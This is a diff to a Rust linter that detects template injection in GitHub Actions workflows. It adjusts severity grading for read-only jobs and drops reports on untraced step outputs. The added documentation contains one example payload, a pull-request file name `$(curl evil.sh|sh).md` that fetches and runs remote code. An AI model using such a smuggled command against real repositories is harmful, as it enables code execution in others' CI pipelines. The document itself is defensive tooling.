@@ -27,7 +27,10 @@ are all chosen by whoever opens the issue or the pull request.
 
 Severity: critical when the workflow runs on an event a stranger can trigger
 with a privileged token (`pull_request_target`, `issue_comment`, `issues`,
-`discussion`, `pull_request_review*`, `workflow_run`); high otherwise. A
+`discussion`, `pull_request_review*`, `workflow_run`); high otherwise, but
+medium when only `pull_request`/`merge_group` start the workflow (a fork's run
+has no secrets) or when the job's token is read-only and it reads no secret (the
+injected code can do what a fork's run can). A
 `workflow_run` workflow that only runs after this repository's own workflows,
 themselves started only by pushes, schedules or dispatches, is low: the run's
 branch and commit are a writer's (the habit is still worth fixing; it becomes
@@ -64,17 +67,18 @@ way the value reaches the shell changes).
 
 zizmor's `template-injection` covers the same sinks. harden follows `env.*`,
 `matrix.*` and `needs.*.outputs` to where they come from, and grades what it
-cannot follow rather than dropping it:
-- `steps.*.outputs.*` (directly or through `env:`, `needs.*.outputs`) are
-  computed by a script or an action harden does not read: reported at info
-  ("cannot tell who chooses it"), as zizmor reports them at informational with
-  low confidence. A changed-file list or a value parsed from an API answer can
-  carry outside text; a digest cannot. Outputs of well-known actions with a
-  fixed shape (docker/build-push-action `digest`/`imageid`, upload-artifact's
-  artifact id and URL, create-pull-request's number and URL, cache hits),
-  outputs a `run:` step writes as literal text (`echo "TARGET=main" >>
-  "$GITHUB_OUTPUT"`), and `steps.*.outcome`/`conclusion` are not reported; an
-  output written as `${{ … }}` is graded by where that expression comes from.
+cannot follow differently:
+- `steps.*.outputs.*` (directly or through `env:`, `needs.*.outputs`): the file
+  lists of changed-file actions (`tj-actions/changed-files`,
+  `dorny/paths-filter`'s `*_files`, `jitterbit/get-changed-files`…) are outsider
+  text (a file in a pull request can be named `$(curl evil.sh|sh).md`) and graded
+  like a branch name. An output a `run:` step writes as literal text and `${{ … }}`
+  (`echo "mode=${{ inputs.mode }}" >> "$GITHUB_OUTPUT"`) is graded by where those
+  expressions come from. Any other output is computed by a script or an action
+  harden does not read and is not reported: zizmor reports them at
+  informational with low confidence, and on the corpus 47 of 49 such findings
+  were a version, a path or a branch name a maintainer set (judged in
+  `bench/precision/judged.tsv`), nothing a reviewer acts on.
 - Label names (`github.event.label.name`, `….labels.*.name`) are reported at
   low: free text, but only people with triage access create and apply labels
   (zizmor: high).
@@ -201,6 +205,39 @@ fn bash_like(step: &YamlNode, job: Option<&YamlNode>, composite: bool) -> bool {
     }
 }
 
+/// Whether a job runs with a read-only token and no secret of the repository (its
+/// `permissions:` grant no write, nothing it or the workflow's `env:` reads names a
+/// secret other than `GITHUB_TOKEN`): code injected there can read what the job
+/// reads and nothing more, as in a fork's pull request run.
+fn harmless_token(root: &YamlNode, job: &YamlNode) -> bool {
+    let read_only = match wf::effective_perms(root, job) {
+        Some(wf::Perms::ReadAll(_)) => true,
+        Some(wf::Perms::Scopes(scopes)) => scopes.iter().all(|p| p.value.as_str() != Some("write")),
+        _ => false,
+    };
+    read_only && !names_secret(job) && !root.get("env").is_some_and(names_secret)
+}
+
+/// Whether any string under `node` reads a repository secret (`secrets.X`, X not
+/// `GITHUB_TOKEN`) or passes them all on (`secrets: inherit`).
+fn names_secret(node: &YamlNode) -> bool {
+    if let Some(map) = node.as_map() {
+        return map.iter().any(|p| {
+            (p.key == "secrets" && p.value.as_str() == Some("inherit")) || names_secret(&p.value)
+        });
+    }
+    if let Some(items) = node.as_seq() {
+        return items.iter().any(names_secret);
+    }
+    node.as_str().is_some_and(|text| {
+        let lower = text.to_ascii_lowercase();
+        lower
+            .match_indices("secrets.")
+            .any(|(i, _)| !lower[i + "secrets.".len()..].starts_with("github_token"))
+            || lower.contains("secrets[")
+    })
+}
+
 /// What the workflow's triggers make of an outsider-controlled value.
 #[derive(Clone, Copy)]
 struct Exposure<'t> {
@@ -210,6 +247,9 @@ struct Exposure<'t> {
     unprivileged: bool,
     /// A composite action: the caller's trigger is unknown here.
     composite: bool,
+    /// The job's token is read-only and it reads no secret: injected code can do what
+    /// a fork's pull request run can.
+    harmless: bool,
 }
 
 /// Who controls an outsider's value when the workflow runs on `trigger`.
@@ -255,11 +295,7 @@ fn settle_after_own_pipelines(
 /// Severity and who-controls-it for an origin under an exposure.
 fn grade(o: &Origin, ex: Exposure<'_>, gated: bool) -> (Severity, String) {
     match o.taint {
-        Taint::Untraced => (
-            Severity::Info,
-            "harden cannot tell who chooses the value a script or action computed".to_string(),
-        ),
-        Taint::Triage => (
+        Taint::Untraced | Taint::Triage => (
             Severity::Low,
             "whoever creates and applies labels (someone with triage access)".to_string(),
         ),
@@ -284,6 +320,11 @@ fn grade(o: &Origin, ex: Exposure<'_>, gated: bool) -> (Severity, String) {
             None if ex.unprivileged => (
                 Severity::Medium,
                 "the pull request's author (in a run without secrets when it comes from a fork)"
+                    .to_string(),
+            ),
+            None if ex.harmless => (
+                Severity::Medium,
+                "the author of the pull request, commit or branch (in a job whose token is read-only and that reads no secret)"
                     .to_string(),
             ),
             None => (
@@ -315,6 +356,12 @@ fn check_sink(
         else {
             continue;
         };
+        // A value a script or an action computed: nobody can tell from the workflow who
+        // chooses it, and judged on real workflows such values were a version, a path or
+        // a branch a maintainer set nearly every time; not reported (see the docs).
+        if origin.taint == Taint::Untraced {
+            continue;
+        }
         let (severity, who) = grade(&origin, ex, gated);
         let plain = parsed.context_path();
         let (var, declare) = match plain.as_deref() {
@@ -336,21 +383,12 @@ fn check_sink(
         } else {
             "pass it via `env:` and read it from the environment inside the code".to_string()
         };
-        let message = if origin.taint == Taint::Untraced {
-            format!(
-                "`${{{{ {} }}}}` is pasted into {} before it runs: {who}, {}; if it can carry outside text it becomes code; {advice}",
-                e.inner,
-                sink.what,
-                origin.describe(),
-            )
-        } else {
-            format!(
-                "`${{{{ {} }}}}` is pasted into {} before it runs: {who} controls {} and can inject code; {advice}",
-                e.inner,
-                sink.what,
-                origin.describe(),
-            )
-        };
+        let message = format!(
+            "`${{{{ {} }}}}` is pasted into {} before it runs: {who} controls {} and can inject code; {advice}",
+            e.inner,
+            sink.what,
+            origin.describe(),
+        );
         let fix = if sink.is_run && sink.bash_like && plain.is_some() {
             env_fix(sink, &exprs, &e.inner, &var, declare, text)
         } else {
@@ -469,10 +507,15 @@ impl Rule for TemplateInjection {
                 external: triggers.external(),
                 unprivileged: triggers.only_unprivileged(),
                 composite: false,
+                harmless: false,
             };
             let scope = Scope::workflow(root).with_weak_origins();
             for job in wf::jobs(root) {
                 let js = scope.job(&job.value);
+                let ex = Exposure {
+                    harmless: harmless_token(root, &job.value),
+                    ..ex
+                };
                 for step in wf::steps(&job.value) {
                     let gated = wf::label_gated(&[Some(&job.value), Some(step)]);
                     let ss = js.step(step);
@@ -506,6 +549,7 @@ impl Rule for TemplateInjection {
                 external: r.call.exposure.external.as_deref(),
                 unprivileged: r.call.exposure.unprivileged,
                 composite: false,
+                harmless: false,
             };
             let (severity, who) = grade(origin, ex, r.call.exposure.gated);
             let through = if r.chain.len() > 1 {
@@ -542,6 +586,7 @@ impl Rule for TemplateInjection {
                 external: None,
                 unprivileged: false,
                 composite: true,
+                harmless: false,
             };
             let scope = Scope::action(root).with_weak_origins();
             for step in wf::action_steps(root) {
